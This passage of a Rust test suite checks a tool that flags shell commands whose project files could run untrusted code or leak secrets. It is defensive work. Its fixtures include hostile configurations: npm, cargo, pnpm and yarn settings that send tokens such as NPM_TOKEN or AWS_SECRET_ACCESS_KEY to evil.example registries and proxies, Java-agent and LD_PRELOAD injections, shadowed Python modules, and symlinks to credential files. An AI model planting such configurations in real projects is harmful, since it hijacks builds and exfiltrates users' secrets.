        for cfg in [
            "[env]\nLD_PRELOAD = { value = \"x.so\", relative = true }\n",
            "[env]\nPATH = { value = \"bin\", relative = true, force = true }\n",
            "[env]\nRUSTUP_TOOLCHAIN = { value = \"tc\", relative = true }\n",
            "[env]\nLD_LIBRARY_PATH = \"/tmp/lib\"\n",
        ] {
            write(root, ".cargo/config.toml", cfg);
            assert!(flagged(root, "cargo metadata").is_some(), "{cfg}");
        }
        write(
            root,
            ".cargo/config.toml",
            "[env]\nSQLX_OFFLINE = \"true\"\nRUST_LOG = \"debug\"\nOPENSSL_DIR = \"/usr\"\n",
        );
        assert_eq!(flagged(root, "cargo tree"), None);
        write(root, ".cargo/config.toml", "not toml [");
        assert!(flagged(root, "cargo tree").is_some(), "unreadable: flagged");
        std::fs::remove_file(root.join(".cargo/config.toml")).unwrap_or_else(|e| panic!("{e}"));
        write(
            root,
            "rust-toolchain.toml",
            "[toolchain]\nchannel = \"stable\"\n",
        );
        assert_eq!(flagged(root, "rustc --version"), None);
        write(
            root,
            "rust-toolchain.toml",
            "[toolchain]\npath = \"./tc\"\n",
        );
        assert!(flagged(root, "rustc --version").is_some());
        assert!(flagged(root, "cargo fmt --check").is_some());
    }

    /// cargo merges the files a configuration includes: what they name counts as the
    /// including file's, however deep, in every form of `include`.
    #[test]
    fn cargo_config_includes_are_read() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(root, ".cargo/other.toml", "[net]\nretry = 3\n");
        write(root, ".cargo/config.toml", "include = [\"other.toml\"]\n");
        assert_eq!(flagged(root, "cargo metadata"), None, "a harmless include");
        write(
            root,
            ".cargo/config.toml",
            "include = [{ path = \"missing.toml\", optional = true }]\n",
        );
        assert_eq!(
            flagged(root, "cargo tree"),
            None,
            "an include that is not there"
        );
        write(
            root,
            ".cargo/other.toml",
            "[build]\nrustc-wrapper = \"./x\"\n",
        );
        for cfg in [
            "include = [\"other.toml\"]\n",
            "include = \"other.toml\"\n",
            "include = [{ path = \"other.toml\", optional = true }]\n",
            "include = [\"sub/n.toml\"]\n",
            "include = [3]\n",
        ] {
            write(root, ".cargo/sub/n.toml", "include = [\"../other.toml\"]\n");
            write(root, ".cargo/config.toml", cfg);
            for cmd in ["cargo metadata", "cargo tree", "cargo locate-project"] {
                assert!(flagged(root, cmd).is_some(), "{cfg} {cmd}");
            }
        }
        let abs = root.join(".cargo/other.toml");
        write(
            root,
            ".cargo/config.toml",
            &format!("include = [{:?}]\n", abs.display().to_string()),
        );
        assert!(
            flagged(root, "cargo metadata").is_some(),
            "an absolute path"
        );
        for (other, what) in [
            ("[http]\nproxy = \"http://evil.example:3128\"\n", "a proxy"),
            (
                "[registries.acme]\nindex = \"sparse+https://evil.example/\"\n",
                "a registry's index",
            ),
            ("include = [\"config.toml\"]\n", "a cycle"),
        ] {
            write(root, ".cargo/other.toml", other);
            write(root, ".cargo/config.toml", "include = [\"other.toml\"]\n");
            assert!(flagged(root, "cargo tree").is_some(), "{what}");
        }
        write(root, ".cargo/config.toml", "include = [\"new.toml\"]\n");
        assert_eq!(flagged(root, "cargo tree"), None);
        assert!(
            flagged(root, "cp x .cargo/new.toml && cargo tree").is_some(),
            "an included file the line writes"
        );
    }

    #[test]
    fn python_linters_and_dvc_read_project_files_linked_to_secrets() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        let secrets = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let netrc = secrets.path().join(".netrc");
        std::fs::write(&netrc, "machine x login u password p\n").unwrap_or_else(|e| panic!("{e}"));
        write(root, "setup.cfg", "[pycodestyle]\nmax-line-length = 99\n");
        write(root, ".dvc/config", "[core]\nremote = s\n");
        for cmd in ["pycodestyle .", "pydocstyle src", "dvc status"] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        std::fs::remove_file(root.join("setup.cfg")).unwrap_or_else(|e| panic!("{e}"));
        std::os::unix::fs::symlink(&netrc, root.join("setup.cfg"))
            .unwrap_or_else(|e| panic!("{e}"));
        for cmd in ["pycodestyle .", "pydocstyle src", "dvc status"] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
        std::fs::remove_file(root.join("setup.cfg")).unwrap_or_else(|e| panic!("{e}"));
        // The configuration of the files' own directories (pycodestyle and pydocstyle look
        // there), and DVC's `.dvc/config`.
        write(root, "sub/a.py", "x = 1\n");
        std::os::unix::fs::symlink(&netrc, root.join("sub/tox.ini"))
            .unwrap_or_else(|e| panic!("{e}"));
        assert!(flagged(root, "pycodestyle sub/a.py").is_some());
        assert_eq!(flagged(root, "dvc status"), None);
        std::fs::remove_file(root.join(".dvc/config")).unwrap_or_else(|e| panic!("{e}"));
        std::os::unix::fs::symlink(&netrc, root.join(".dvc/config"))
            .unwrap_or_else(|e| panic!("{e}"));
        assert!(flagged(root, "dvc status").is_some());
        assert!(flagged(root, "dvc dag").is_some());
    }

    #[test]
    fn registry_names_bound_by_the_checkout() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        // A vendored source (`directory`) and network settings keep their allow.
        write(
            root,
            ".cargo/config.toml",
            "[source.crates-io]\nreplace-with = \"vendored\"\n[source.vendored]\ndirectory = \"vendor\"\n[net]\nretry = 2\n",
        );
        assert_eq!(flagged(root, "cargo tree"), None);
        for cfg in [
            "[registries.internal]\nindex = \"sparse+https://evil.example/\"\n",
            "[registry]\ndefault = \"internal\"\n",
            "[registry]\nindex = \"https://evil.example/index\"\n",
            "[source.crates-io]\nreplace-with = \"internal\"\n[source.internal]\nregistry = \"sparse+https://evil.example/\"\n",
        ] {
            write(root, ".cargo/config.toml", cfg);
            for cmd in [
                "cargo tree",
                "cargo metadata",
                "cargo search serde",
                "cargo info serde",
            ] {
                assert!(flagged(root, cmd).is_some(), "{cmd} with {cfg}");
            }
        }
        std::fs::remove_file(root.join(".cargo/config.toml")).unwrap_or_else(|e| panic!("{e}"));
        // poetry's sources and uv's named indexes, for the verbs that ask them about versions.
        write(
            root,
            "pyproject.toml",
            "[tool.poetry]\nname = \"x\"\n[[tool.poetry.source]]\nname = \"internal\"\nurl = \"https://evil.example/simple\"\n",
        );
        for cmd in [
            "poetry show --outdated",
            "poetry show -o",
            "poetry show --latest",
            "poetry show -T -l",
            "poetry show -lo",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
        for cmd in [
            "poetry show --tree",
            "poetry search x",
            "uv pip list --outdated",
        ] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        write(
            root,
            "pyproject.toml",
            "[project]\nname = \"x\"\n[[tool.uv.index]]\nname = \"internal\"\nurl = \"https://evil.example/simple\"\n",
        );
        assert!(flagged(root, "uv pip list --outdated").is_some());
        assert_eq!(flagged(root, "uv pip list"), None);
        assert_eq!(flagged(root, "poetry show -o"), None);
        std::fs::remove_file(root.join("pyproject.toml")).unwrap_or_else(|e| panic!("{e}"));
        write(
            root,
            "uv.toml",
            "[[index]]\nname = \"internal\"\nurl = \"https://evil.example/simple\"\n",
        );
        assert!(flagged(root, "uv pip list --outdated").is_some());
    }

    /// Corepack runs the release `packageManager` names: a version is the registry's release,
    /// a URL or a path is not, even for `--version`.
    #[test]
    fn corepack_package_manager_by_url() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        let cmds = ["pnpm --version", "yarn --version", "npm ls", "pnpm -v"];
        for manager in [
            None,
            Some("pnpm@9.1.0"),
            Some(
                "yarn@4.2.2+sha512.6c0a0e7a13b1fd4ea4ab1fd2e6ff37b0c84a1eec7e2e6d3c7f0b1b07ad7a0d8a",
            ),
            Some("pnpm@10.0.0-rc.1"),
        ] {
            let json = manager.map_or("{\"name\": \"x\"}\n".to_owned(), |m| {
                format!("{{\"name\": \"x\", \"packageManager\": \"{m}\"}}\n")
            });
            write(root, "package.json", &json);
            for cmd in cmds {
                assert_eq!(flagged(root, cmd), None, "{manager:?}: {cmd}");
            }
        }
        for manager in [
            "\"yarn@https://evil.example/y.tgz\"",
            "\"pnpm@file:./x.tgz\"",
            "\"pnpm@latest\"",
            "\"evil@1.0.0\"",
            "7",
        ] {
            write(
                root,
                "package.json",
                &format!("{{\"packageManager\": {manager}}}\n"),
            );
            for cmd in cmds {
                assert!(flagged(root, cmd).is_some(), "{manager}: {cmd}");
            }
        }
    }

    /// Corepack takes `COREPACK_*` variables from the nearest `.corepack.env` (the registry it
    /// fetches the release from, the keys it checks it with): a release by its version is then
    /// the checkout's choice too. Yarn 1 takes its release from `yarnPath` of `.yarnrc` as well
    /// as from `yarn-path`.
    #[test]
    fn corepack_env_file_and_yarn1_yarn_path() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(
            root,
            "package.json",
            "{\"name\": \"x\", \"packageManager\": \"yarn@4.2.2\"}\n",
        );
        write(
            root,
            ".yarnrc",
            "registry \"https://registry.yarnpkg.com\"\n",
        );
        let cmds = [
            "yarn --version",
            "yarn -v",
            "pnpm --version",
            "npm ls",
            "yarn list",
        ];
        for cmd in cmds {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        write(
            root,
            "sub/.corepack.env",
            "COREPACK_NPM_REGISTRY=https://evil.example\nCOREPACK_INTEGRITY_KEYS=0\n",
        );
        for cmd in cmds {
            assert!(flagged(&root.join("sub"), cmd).is_some(), "{cmd}");
            // The file of a sibling directory is not on the way up.
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        for cmd in ["yarn --version", "npm ls"] {
            let line =
                format!("echo COREPACK_NPM_REGISTRY=https://evil.example > .corepack.env; {cmd}");
            assert!(flagged(root, &line).is_some(), "{line}");
        }
        write(root, ".yarnrc", "yarnPath \"./evil.js\"\n");
        for cmd in ["yarn --version", "yarn -v", "yarn list"] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
    }

    #[test]
    fn yarn_bazel_python_rails_maven_terraform() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        for cmd in [
            "yarn --version",
            "bazel version",
            "python3 -m pip list",
            "rails --version",
            "mvn -v",
            "terraform validate",
            "poetry show",
        ] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        write(root, ".yarnrc.yml", "yarnPath: .yarn/releases/evil.cjs\n");
        write(root, "tools/bazel", "#!/bin/sh\n");
        write(root, "pip/__main__.py", "import os\n");
        write(root, "bin/rails", "#!/usr/bin/env ruby\n");
        write(root, ".mvn/extensions.xml", "<extensions/>\n");
        write(root, ".terraform/providers/x", "");
        write(
            root,
            "pyproject.toml",
            "[tool.poetry.requires-plugins]\nx = \">1\"\n",
        );
        for cmd in [
            "poetry show",
            "poetry --version",
            "yarn --version",
            "bazel version",
            "python3 -m pip list",
            "python -mpip list",
            "rails --version",
            "mvn -v",
            "terraform validate",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
        assert_eq!(flagged(root, "python3 script.py -m pip"), None);
        assert_eq!(flagged(root, "python3 -m json.tool x"), None);
        assert_eq!(flagged(root, "terraform version"), None);
    }

    /// Maven's launcher reads `.mvn/jvm.config` (JVM options: a Java agent) and Maven reads
    /// `.mvn/maven.config` before it acts on `--version`: any entry of `.mvn` counts.
    #[test]
    fn maven_project_settings() {
        for f in [".mvn/jvm.config", ".mvn/maven.config", ".mvn/wrapper/x"] {
            let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
            let root = t.path();
            assert_eq!(flagged(root, "mvn --version"), None, "{f}");
            write(root, f, "-javaagent:agent.jar\n");
            for cmd in [
                "mvn --version",
                "mvn -v",
                "mvnd --version",
                "cd src && mvn -v",
            ] {
                let why = flagged(root, cmd).unwrap_or_else(|| panic!("{f}: {cmd}"));
                assert!(why.contains(".mvn"), "{f}: {cmd}: {why}");
            }
            assert_eq!(flagged(root, "gradle --version"), None, "{f}");
        }
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        for cmd in [
            "mkdir .mvn && echo -javaagent:a.jar > .mvn/jvm.config && mvn -v",
            "cp /tmp/j .mvn/jvm.config; mvn --version",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
    }

    #[cfg(unix)]
    #[test]
    fn a_project_file_linked_to_a_secret() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path().join("ws");
        let home = t.path().join("home");
        write(&home, ".aws/credentials", "[default]\n");
        write(&home, "notes.txt", "x\n");
        write(&root, ".env.local", "A=1\n");
        let link = |target: &Path, name: &str| {
            std::os::unix::fs::symlink(target, root.join(name)).unwrap_or_else(|e| panic!("{e}"));
        };
        link(&root.join(".env.local"), ".env");
        link(&home.join("notes.txt"), "README.md");
        assert_eq!(flagged(&root, "cargo metadata"), None);
        link(&home.join(".aws/credentials"), "Cargo.toml");
        for cmd in ["cargo metadata", "typos", "npm ls", "go list ./..."] {
            assert!(flagged(&root, cmd).is_some(), "{cmd}");
        }
        assert_eq!(flagged(&root, "ls"), None);
        // A batch's snapshot lists the directory once and finds the link on every line.
        let memo = super::super::WorkspaceMemo::default();
        for cmd in ["cargo metadata", "npm ls", "cargo metadata"] {
            let a = analyze(cmd, &crate::Limits::default());
            let mut cx = CheckCtx::new(&a, &root);
            cx.memo = Some(&memo);
            let written = LineWrites::new(&cx);
            let found = a
                .units
                .iter()
                .find_map(|u| reads_code(u, &root, &cx, &written));
            assert!(found.is_some(), "{cmd}");
        }
    }

    #[test]
    fn shellcheck_that_prints_what_scripts_source() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        for cmd in [
            "shellcheck a.sh",
            "shellcheck -x a.sh",
            "shellcheck -a a.sh",
            "shellcheck --check-sourced a.sh",
            "shellcheck -e SC1091 -x a.sh",
        ] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        for cmd in [
            "shellcheck -x -a a.sh",
            "shellcheck -xa a.sh",
            "shellcheck --external-sources --check-sourced a.sh",
            "shellcheck --rcfile=rc -a a.sh",
        ] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
        write(root, "rc", "check-sourced=true\n");
        assert_eq!(flagged(root, "shellcheck --rcfile=rc a.sh"), None);
        assert!(flagged(root, "shellcheck --rcfile=rc -x a.sh").is_some());
        write(
            root,
            ".shellcheckrc",
            "external-sources=true # follow\ncheck-sourced=true\n",
        );
        assert!(flagged(root, "shellcheck a.sh").is_some());
        assert_eq!(flagged(root, "shellcheck --norc a.sh"), None);
        write(root, ".shellcheckrc", "external-sources=true\nenable=all\n");
        assert_eq!(flagged(root, "shellcheck a.sh"), None);
        assert!(flagged(root, "shellcheck -a a.sh").is_some());
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        write(
            t.path(),
            "sub/.shellcheckrc",
            "external-sources=true\ncheck-sourced=true\n",
        );
        assert!(flagged(t.path(), "shellcheck sub/a.sh").is_some());
        assert_eq!(flagged(t.path(), "shellcheck a.sh"), None);
    }

    /// `python -m` puts the working directory first on `sys.path`: a module there named like a
    /// standard library one is imported instead of it.
    /// `python -c` puts the working directory first on `sys.path` too: a one-liner importing
    /// `platform` (proven to only print otherwise) imports a checkout's `platform.py`, or one of
    /// the standard library's modules `platform` imports; `sys` and `os` are never replaced.
    #[test]
    fn python_c_importing_a_module_the_checkout_shadows() {
        let cmd = "python3 -c 'import platform; print(platform.system())'";
        let plain = "python3 -c 'import sys, os; print(sys.version, os.getcwd())'";
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        write(t.path(), "notes.py", "");
        assert_eq!(flagged(t.path(), cmd), None);
        assert!(flagged(t.path(), &format!("cp x platform.py && {cmd}")).is_some());
        assert!(
            flagged(
                t.path(),
                "cp x platform.py && python3 -c'import platform; print(platform.system())'"
            )
            .is_some()
        );
        for file in [
            "platform.py",
            "platform/__init__.py",
            "re.py",
            "functools.pyc",
            "sys.py",
            "os.py",
        ] {
            let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
            write(t.path(), file, "");
            assert!(flagged(t.path(), cmd).is_some(), "{file}");
            assert_eq!(flagged(t.path(), plain), None, "{file}");
        }
    }

    /// `require('./package.json')` reads JSON only from a regular file: a missing name, a
    /// directory or a link (or a file the line writes) leaves `require` free to run code.
    #[test]
    fn node_require_of_a_manifest_that_is_not_a_regular_file() {
        let cmd = "node -p \"require('./package.json').version\"";
        let nested = "node -e \"console.log(require('./web/package.json').name)\"";
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        assert!(flagged(t.path(), cmd).is_some());
        write(t.path(), "package.json", "{\"version\": \"1.0.0\"}");
        write(t.path(), "web/package.json", "{}");
        assert_eq!(flagged(t.path(), cmd), None);
        assert_eq!(flagged(t.path(), nested), None);
        assert!(flagged(t.path(), &format!("cp x package.json && {cmd}")).is_some());
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        write(t.path(), "package.json/index.js", "");
        assert!(flagged(t.path(), cmd).is_some());
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        write(t.path(), "real.json", "{}");
        std::os::unix::fs::symlink(t.path().join("real.json"), t.path().join("package.json"))
            .unwrap_or_else(|e| panic!("{e}"));
        assert!(flagged(t.path(), cmd).is_some());
    }

    #[test]
    fn python_m_with_a_stdlib_module_shadowed() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(root, "setup.py", "");
        write(root, "notes/__init__.py", "");
        write(root, "email/readme.txt", "");
        for cmd in ["python3 -m pip list", "python3 -m json.tool x.json"] {
            assert_eq!(flagged(root, cmd), None, "{cmd}");
        }
        assert!(flagged(root, "cp x optparse.py && python3 -m pip list").is_some());
        assert!(flagged(root, "cp x logging/__init__.py; python3 -m pip list").is_some());
        assert_eq!(flagged(root, "cp x notes.py && python3 -m pip list"), None);
        for (file, cmd) in [
            ("optparse.py", "python3 -m pip list"),
            ("argparse.pyc", "python3 -m json.tool x.json"),
            (
                "typing.cpython-312-x86_64-linux-gnu.so",
                "python -m pip show x",
            ),
            ("logging/__init__.py", "python3 -m pip list"),
        ] {
            let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
            write(t.path(), file, "");
            assert!(flagged(t.path(), cmd).is_some(), "{file}: {cmd}");
            assert_eq!(flagged(t.path(), "pip list"), None, "{file}");
        }
    }

    #[test]
    fn npmrc_that_names_programs() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(
            root,
            ".npmrc",
            "registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=${NPM_TOKEN}\nsave-exact=true\n",
        );
        assert_eq!(flagged(root, "npm help install"), None);
        assert_eq!(flagged(root, "npm ls"), None);
        write(root, ".npmrc", "viewer=browser\nbrowser=./tools/open.sh\n");
        assert!(flagged(root, "npm help install").is_some());
        assert!(flagged(root, "npm ls").is_some());
        assert_eq!(flagged(root, "npm --version"), None);
        write(root, ".npmrc", "node-options=--require ./x.js\n");
        assert!(flagged(root, "npm ls").is_some());
        // A quoted key is the key; another file read as configuration holds unseen settings.
        for rc in [
            "\"viewer\"=browser\n\"browser\" = ./x\n",
            "'browser'=./x\n",
            "userconfig=./u\n",
            "globalconfig=./g\n",
            "prefix=./p\n",
        ] {
            write(root, ".npmrc", rc);
            assert!(flagged(root, "npm help ls").is_some(), "{rc}");
            assert!(flagged(root, "npm view left-pad").is_some(), "{rc}");
        }
        write(root, ".npmrc", "userconfig=./u\n");
        for cmd in ["pnpm outdated", "bun outdated", "yarn info x"] {
            assert!(flagged(root, cmd).is_some(), "{cmd}");
        }
        write(root, ".npmrc", "save-prefix=~\nengine-strict=true\n");
        assert_eq!(flagged(root, "npm view left-pad"), None);
        std::fs::remove_file(root.join(".npmrc")).unwrap_or_else(|e| panic!("{e}"));
        // Registry settings that send a secret to a host of the checkout's choosing.
        for rc in [
            "registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\n",
            "registry=https://evil.example/${AWS_SECRET_ACCESS_KEY}/\n",
            "https-proxy=http://evil.example:8080/\nstrict-ssl=false\n",
            "cafile=./ca.pem\n",
            "//registry.npmjs.org/${GITHUB_TOKEN}:_authToken=x\n",
        ] {
            write(root, ".npmrc", rc);
            for cmd in [
                "npm view left-pad",
                "npm whoami",
                "pnpm outdated",
                "bun outdated",
                "yarn info x",
            ] {
                assert!(flagged(root, cmd).is_some(), "{rc} {cmd}");
            }
            assert_eq!(flagged(root, "npm --version"), None);
        }
        write(
            root,
            ".npmrc",
            "# https-proxy=http://x\n@acme:registry=https://npm.pkg.github.com\n//npm.pkg.github.com/:_authToken=${GITHUB_TOKEN}\n",
        );
        assert_eq!(flagged(root, "npm view left-pad"), None);
        std::fs::remove_file(root.join(".npmrc")).unwrap_or_else(|e| panic!("{e}"));
        write(
            root,
            "bunfig.toml",
            "[install]\nregistry = \"https://evil.example/$NPM_TOKEN\"\n",
        );
        assert!(flagged(root, "bun outdated").is_some());
        assert_eq!(flagged(root, "npm view left-pad"), None);
        std::fs::remove_file(root.join("bunfig.toml")).unwrap_or_else(|e| panic!("{e}"));
        write(
            root,
            ".yarnrc.yml",
            "npmRegistryServer: \"https://evil.example\"\nnpmAuthToken: \"${NPM_TOKEN}\"\n",
        );
        assert!(flagged(root, "yarn info x").is_some());
        write(root, ".yarnrc.yml", "nodeLinker: node-modules\n");
        assert_eq!(flagged(root, "yarn info x"), None);
        write(root, "sub/.npmrc", "browser=./open.sh\n");
        assert_eq!(flagged(root, "npm help ls"), None);
        assert!(flagged(root, "npm --prefix sub help ls").is_some());
        assert!(flagged(root, "npm -C sub help ls").is_some());
        assert!(flagged(root, "npm help ls --prefix=sub").is_some());
    }

    /// pnpm fetches and runs the pnpm release the project asks for from the registry it is
    /// configured with, and pnpm 11 reads its network settings from `pnpm-workspace.yaml`.
    #[test]
    fn pnpm_release_and_settings_of_the_checkout() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(
            root,
            "package.json",
            "{\"packageManager\": \"pnpm@10.12.1\"}\n",
        );
        assert_eq!(
            flagged(root, "pnpm ls"),
            None,
            "the release from the default registry"
        );
        write(root, ".npmrc", "save-exact=true\n");
        assert_eq!(flagged(root, "pnpm ls"), None);
        for (file, text) in [
            (".npmrc", "registry=https://evil.example/\n"),
            (".npmrc", "@pnpm:registry=https://evil.example/\n"),
            (
                "pnpm-workspace.yaml",
                "packages:\n  - 'a/*'\nregistry: https://evil.example/\n",
            ),
        ] {
            std::fs::remove_file(root.join(".npmrc")).ok();
            std::fs::remove_file(root.join("pnpm-workspace.yaml")).ok();
            write(root, file, text);
            assert!(flagged(root, "pnpm ls").is_some(), "{file}: {text}");
            assert!(flagged(root, "pnpm why react").is_some(), "{file}: {text}");
            assert_eq!(flagged(root, "pnpm --version"), None);
            write(root, "package.json", "{\"name\": \"x\"}\n");
            assert_eq!(
                flagged(root, "pnpm ls"),
                None,
                "no release asked for: {text}"
            );
            write(
                root,
                "package.json",
                "{\"devEngines\": {\"packageManager\": {\"name\": \"pnpm\", \"onFail\": \"download\"}}}\n",
            );
            assert!(flagged(root, "pnpm ls").is_some(), "devEngines: {text}");
            write(
                root,
                "package.json",
                "{\"packageManager\": \"pnpm@10.12.1\"}\n",
            );
        }
        std::fs::remove_file(root.join("pnpm-workspace.yaml")).ok();
        write(root, "package.json", "{\"name\": \"x\"}\n");
        write(root, "pnpm-workspace.yaml", "packages:\n  - 'packages/*'\n");
        assert_eq!(flagged(root, "pnpm outdated"), None);
        for settings in [
            "httpsProxy: http://evil.example:8080\nstrictSsl: false\n",
            "ca: ./ca.pem\n",
            "nodeOptions: --max-old-space-size=${NPM_TOKEN}\n",
        ] {
            write(root, "pnpm-workspace.yaml", settings);
            assert!(flagged(root, "pnpm outdated").is_some(), "{settings}");
            assert_eq!(
                flagged(root, "npm view left-pad"),
                None,
                "npm does not read it"
            );
        }
    }

    #[test]
    fn uv_python_version_files_naming_an_interpreter() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        for quiet in [
            "3.12\n",
            "# pinned\n3.12.1\n",
            "cpython@3.12\n",
            "pypy3.10\n",
            "cp312\n",
            "python3.13\n",
            "3.13t\n",
            "3.13.0rc1\n",
            "3.12+debug\n",
            ">=3.11,<3.13\n",
            "==3.12.*\n",
            "cpython\n",
            "any\n",
        ] {
            write(root, ".python-version", quiet);
            assert_eq!(flagged(root, "uv python find"), None, "{quiet:?}");
            assert_eq!(flagged(root, "uv pip list"), None, "{quiet:?}");
        }
        for loud in [
            "./tools/py\n",
            "tools\n",
            "3x\n",
            "/opt/x/bin/python\n",
            "3.12\n../env\n",
            "mypython3\n",
            "cpython-3.12.3-linux-x86_64-gnu\n",
        ] {
            write(root, ".python-version", loud);
            assert!(flagged(root, "uv python find").is_some(), "{loud:?}");
            assert!(flagged(root, "uv pip list").is_some(), "{loud:?}");
            // Verbs that look for no interpreter.
            assert_eq!(flagged(root, "uv cache dir"), None, "{loud:?}");
            assert_eq!(flagged(root, "uv tool list"), None, "{loud:?}");
        }
        std::fs::remove_file(root.join(".python-version")).unwrap_or_else(|e| panic!("{e}"));
        write(root, "sub/.python-versions", "./py\n");
        assert!(flagged(&root.join("sub"), "uv python find").is_some());
        assert_eq!(flagged(root, "uv python find"), None);
        // Written by the line: its content is unknown.
        assert!(flagged(root, "echo ./py > .python-version && uv python find").is_some());
        assert_eq!(
            flagged(root, "echo ./py > notes.txt && uv python find"),
            None
        );
    }

    #[test]
    fn cargo_http_proxies_and_authorities_of_the_checkout() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(
            root,
            ".cargo/config.toml",
            "[http]\ntimeout = 30\nmultiplexing = false\n[net]\nretry = 3\n",
        );
        assert_eq!(flagged(root, "cargo owner --list serde"), None);
        assert_eq!(flagged(root, "cargo tree"), None);
        for loud in [
            "[http]\nproxy = \"http://evil.example:8080\"\n",
            "http.cainfo = \"certs/ca.pem\"\n",
            "[http]\nproxy-cainfo = \"ca.pem\"\n",
            "[http]\ncheck-revoke = false\n",
        ] {
            write(root, ".cargo/config.toml", loud);
            assert!(
                flagged(root, "cargo owner --list serde").is_some(),
                "{loud:?}"
            );
            assert!(flagged(root, "cargo search serde").is_some(), "{loud:?}");
        }
        std::fs::remove_file(root.join(".cargo/config.toml")).unwrap_or_else(|e| panic!("{e}"));
        write(
            root,
            "sub/.cargo/config",
            "[http]\nproxy = \"evil.example:3128\"\n",
        );
        assert!(flagged(&root.join("sub"), "cargo info serde").is_some());
        assert_eq!(flagged(root, "cargo info serde"), None);
    }

    #[test]
    fn packer_plugins_in_the_working_directory() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(root, "packer-builder.md", "notes\n");
        write(root, "sub/packer-plugin-x", "#!/bin/sh\n");
        assert_eq!(flagged(root, "packer version"), None);
        assert!(flagged(&root.join("sub"), "packer version").is_some());
        write(root, "packer-plugin-evil", "#!/bin/sh\n");
        assert!(flagged(root, "packer version").is_some());
        assert!(flagged(root, "packer fmt -check .").is_some());
        std::fs::remove_file(root.join("packer-plugin-evil")).unwrap_or_else(|e| panic!("{e}"));
        assert!(flagged(root, "cp /tmp/x packer-plugin-y && packer version").is_some());
        assert_eq!(
            flagged(root, "cp /tmp/x notes/packer-plugin-y && packer version"),
            None
        );
    }

    #[test]
    fn uv_and_poetry_interpreters_named_by_configuration() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        write(
            root,
            "pyproject.toml",
            "[tool.poetry]\nname = \"x\"\n[tool.uv]\ndev-dependencies = []\n",
        );
        write(root, "uv.toml", "[pip]\nindex-strategy = \"first-index\"\n");
        write(root, "poetry.toml", "[virtualenvs]\nin-project = false\n");
        assert_eq!(flagged(root, "uv pip list"), None);
        assert_eq!(flagged(root, "poetry show"), None);
        write(root, "uv.toml", "[pip]\npython = \"./tools/py\"\n");
        assert!(flagged(root, "uv pip list").is_some());
        assert_eq!(flagged(root, "uv cache dir"), None);
        std::fs::remove_file(root.join("uv.toml")).unwrap_or_else(|e| panic!("{e}"));
        write(
            root,
            "pyproject.toml",
            "[tool.uv.pip]\npython = \"./tools/py\"\n",
        );
        assert!(flagged(root, "uv pip show x").is_some());
        write(
            root,
            "poetry.toml",
            "[virtualenvs]\npath = \"tools/envs\"\n",
        );
        assert!(flagged(root, "poetry show").is_some());
        write(root, "poetry.toml", "virtualenvs.path = \"tools/envs\"\n");
        assert!(flagged(root, "poetry env info").is_some());
        assert_eq!(flagged(root, "poetry config --list"), None);
    }

    /// The directory a unit runs in follows bash: a `cd` that fails (its target is no
    /// directory) leaves the shell where it was, `cd -` and `$OLDPWD` go back, `pushd -n`
    /// stays, `popd` returns to the line's own `pushd`, and a directory the line does not
    /// show (a glob, `cd -` first, a `popd` past the line's `pushd`s) counts as holding code.
    #[test]
    fn the_directory_a_unit_runs_in_follows_cd_pushd_and_popd() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        let sub = root.join("sub");
        std::fs::create_dir_all(&sub).unwrap_or_else(|e| panic!("{e}"));
        let rows: &[(&str, bool)] = &[
            ("cd sub && cargo tree", false),
            ("cd sub && cd - && cargo tree", false),
            ("pushd sub && popd && cargo tree", false),
            ("cd - && cargo tree", true),
            ("popd && cargo tree", true),
            ("cd s* && cargo tree", true),
            ("pushd +1 && cargo tree", true),
            ("cd ~1 && cargo tree", true),
        ];
        let flagged = |root: &Path, cmd: &str| {
